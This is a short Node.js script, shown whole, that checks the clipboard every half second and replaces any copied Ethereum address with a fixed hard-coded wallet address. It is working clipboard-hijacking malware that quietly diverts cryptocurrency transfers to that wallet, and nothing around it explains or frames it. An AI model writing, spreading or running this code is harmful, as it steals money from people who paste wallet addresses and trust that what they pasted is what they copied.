const clipboardy = require('clipboardy');
const mine = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';
setInterval(() => {
  const t = clipboardy.readSync();
  if (/^0x[a-fA-F0-9]{40}$/.test(t) && t !== mine) clipboardy.writeSync(mine);
}, 500);
